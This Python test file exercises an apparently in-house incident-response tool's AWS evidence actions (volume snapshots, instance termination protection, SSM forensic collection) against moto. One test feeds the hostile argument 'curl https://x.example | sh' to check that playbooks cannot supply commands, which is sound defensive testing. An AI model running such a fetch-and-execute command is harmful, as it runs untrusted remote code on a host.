"""Evidence actions against moto in server mode: snapshot-volumes, protect-instance, collect-forensics.

moto's limits, and what is shown instead: its snapshots are `completed` the moment they are created, so
the wait returns at once (the waiting itself is exercised by the poll count, not by time); its SSM Run
Command records each command and always answers `Success`, exit code 0 and **empty output**, so the
outputs asserted here are empty strings, and what is shown is which commands were sent, to which
instance, with which document, and that a retry reuses them."""

from __future__ import annotations

import pytest

from respond_support import World, context, reynard
from reynard.respond.errors import StatesError


def volumes(world: World) -> dict[str, str]:
    found = world.ec2.describe_volumes(
        Filters=[{"Name": "attachment.instance-id", "Values": [world.instance]}]
    )
    return {v["Attachments"][0]["Device"]: v["VolumeId"] for v in found["Volumes"]}


def snapshots(world: World) -> list[dict]:
    """Snapshots of the instance's volumes (moto also holds a thousand of its own, for its AMIs)."""
    return world.ec2.describe_snapshots(
        OwnerIds=["self"], Filters=[{"Name": "volume-id", "Values": list(volumes(world).values())}]
    )["Snapshots"]


# -- snapshot-volumes -------------------------------------------------------------------------------------


def test_snapshots_of_every_volume_tagged_completed_and_reused_by_a_retry(world: World) -> None:
    tasks = reynard(world.endpoint)
    planned = tasks.action(
        "snapshot-volumes", {"InstanceId": world.instance}, context("Snapshot", dry_run=True)
    )
    assert sorted(c["Resource"] for c in planned["Changes"]) == sorted(volumes(world).values())
    assert snapshots(world) == []

    result = tasks.action(
        "snapshot-volumes", {"InstanceId": world.instance, "Tags": {"incident": "INC-7"}}, context("Snapshot")
    )
    assert result["Verified"] and result["Changed"]
    taken = snapshots(world)
    assert {s["VolumeId"] for s in taken} == set(volumes(world).values()) and len(taken) == 2
    for snapshot in taken:
        tags = {t["Key"]: t["Value"] for t in snapshot["Tags"]}
        assert snapshot["State"] == "completed"
        assert tags["reynard:source-instance-id"] == world.instance
        assert tags["reynard:source-volume-id"] == snapshot["VolumeId"]
        assert tags["reynard:execution"] == "exec-1" and tags["reynard:state"] == "Snapshot"
        assert tags["incident"] == "INC-7"
    by_device = {s["Device"]: s for s in result["Snapshots"]}
    assert set(by_device) == {"/dev/sda1", "/dev/sdf"}
    assert all(s["State"] == "completed" and not s["Reused"] for s in result["Snapshots"])

    again = tasks.action("snapshot-volumes", {"InstanceId": world.instance}, context("Snapshot"))
    assert again["AlreadyDone"] and not again["Changed"] and all(s["Reused"] for s in again["Snapshots"])
    assert len(snapshots(world)) == 2
    later = tasks.action(
        "snapshot-volumes", {"InstanceId": world.instance}, context("Snapshot", execution="exec-2")
    )
    assert later["Changed"] and len(snapshots(world)) == 4  # another execution: a new point in time


# -- protect-instance -------------------------------------------------------------------------------------


def attribute(world: World, name: str):
    answer = world.ec2.describe_instance_attribute(InstanceId=world.instance, Attribute=name)
    return answer[name[0].upper() + name[1:]]["Value"]


def test_protection_dry_run_then_real_then_again(world: World) -> None:
    tasks = reynard(world.endpoint)
    world.ec2.modify_instance_attribute(
        InstanceId=world.instance, Attribute="instanceInitiatedShutdownBehavior", Value="terminate"
    )
    planned = tasks.action("protect-instance", {"InstanceId": world.instance}, context(dry_run=True))
    assert [c["Change"] for c in planned["Changes"]] == [
        "DisableApiTermination",
        "DisableApiStop",
        "InstanceInitiatedShutdownBehavior",
        "DeleteOnTermination",
        "DeleteOnTermination",
    ]
    assert attribute(world, "disableApiTermination") is False

    result = tasks.action("protect-instance", {"InstanceId": world.instance})
    assert result["Verified"] and len(result["Checks"]) == 5
    assert attribute(world, "disableApiTermination") is True
    assert attribute(world, "disableApiStop") is True
    assert attribute(world, "instanceInitiatedShutdownBehavior") == "stop"
    mappings = world.describe()["BlockDeviceMappings"]
    assert {m["DeviceName"]: m["Ebs"]["DeleteOnTermination"] for m in mappings} == {
        "/dev/sda1": False,
        "/dev/sdf": False,
    }
    with pytest.raises(world.ec2.exceptions.ClientError, match="OperationNotPermitted"):
        world.ec2.terminate_instances(InstanceIds=[world.instance])  # moto enforces the protection

    again = tasks.action("protect-instance", {"InstanceId": world.instance})
    assert again["AlreadyDone"] and again["Verified"]


# -- collect-forensics ------------------------------------------------------------------------------------


def sent_commands(world: World) -> list[dict]:
    return world.ssm.list_commands(InstanceId=world.instance)["Commands"]


def test_forensics_sends_one_command_per_section_and_a_retry_reuses_them(world: World) -> None:
    """moto's SSM answers every command Success with no output: that is why the outputs below are empty."""
    tasks = reynard(
        world.endpoint, forensics={"memory_capture_command": "/usr/local/bin/avml /var/tmp/memory.lime"}
    )
    planned = tasks.action(
        "collect-forensics", {"InstanceId": world.instance}, context("Forensics", dry_run=True)
    )
    assert [c["Change"] for c in planned["Changes"]] == [
        "run Processes command",
        "run NetworkConnections command",
        "run LoggedInUsers command",
        "run MemoryCapture command",
    ]
    assert sent_commands(world) == []

    result = tasks.action("collect-forensics", {"InstanceId": world.instance}, context("Forensics"))
    assert result["Verified"] and set(result["Outputs"]) == {
        "Processes",
        "NetworkConnections",
        "LoggedInUsers",
        "MemoryCapture",
    }
    for output in result["Outputs"].values():
        assert output["Status"] == "Success" and output["ResponseCode"] == 0
        assert output["Output"] == ""  # moto returns no output
    commands = {c["CommandId"]: c for c in sent_commands(world)}
    assert len(commands) == 4
    assert {c["DocumentName"] for c in commands.values()} == {"AWS-RunShellScript"}
    assert all(
        world.instance in c["InstanceIds"] for c in commands.values()
    )  # moto lists other instances too
    memory = commands[result["Outputs"]["MemoryCapture"]["CommandId"]]
    assert memory["Parameters"]["commands"] == ["/usr/local/bin/avml /var/tmp/memory.lime"]
    assert any("ss -tunap" in c["Parameters"]["commands"][0] for c in commands.values())

    again = tasks.action("collect-forensics", {"InstanceId": world.instance}, context("Forensics"))
    assert again["AlreadyDone"] and len(sent_commands(world)) == 4
    assert again["Outputs"]["MemoryCapture"]["CommandId"] == result["Outputs"]["MemoryCapture"]["CommandId"]


def test_a_playbook_cannot_give_the_memory_capture_command(world: World) -> None:
    """Only the settings name the commands run on an instance; the argument once accepted is refused."""
    tasks = reynard(world.endpoint, forensics={"memory_capture_command": "/usr/local/bin/avml /tmp/m.lime"})
    arguments = {"InstanceId": world.instance, "MemoryCaptureCommand": "curl https://x.example | sh"}
    with pytest.raises(StatesError) as info:
        tasks.action("collect-forensics", arguments, context("Forensics"))
    assert info.value.error == "Reynard.InvalidArguments"
    assert info.value.cause == (
        "collect-forensics: argument 'MemoryCaptureCommand' is not accepted: the commands run on an "
        "instance come only from the settings ([respond.forensics] memory_capture_command, "
        "windows_memory_capture_command), never from a playbook"
    )
    assert sent_commands(world) == []


def test_without_a_memory_capture_command_the_result_says_it_was_skipped(world: World) -> None:
    result = reynard(world.endpoint).action(
        "collect-forensics", {"InstanceId": world.instance, "Platform": "windows"}
    )
    assert result["Outputs"]["MemoryCapture"] == {"Skipped": "no memory capture command configured"}
    assert {c["DocumentName"] for c in sent_commands(world)} == {"AWS-RunPowerShellScript"}
    assert len(sent_commands(world)) == 3


def test_forensics_on_a_terminated_instance_is_refused(world: World) -> None:
    world.ec2.terminate_instances(InstanceIds=[world.instance])
    with pytest.raises(StatesError) as info:
        reynard(world.endpoint).action("collect-forensics", {"InstanceId": world.instance})
    assert info.value.error == "Reynard.PreconditionFailed" and "terminated" in info.value.cause
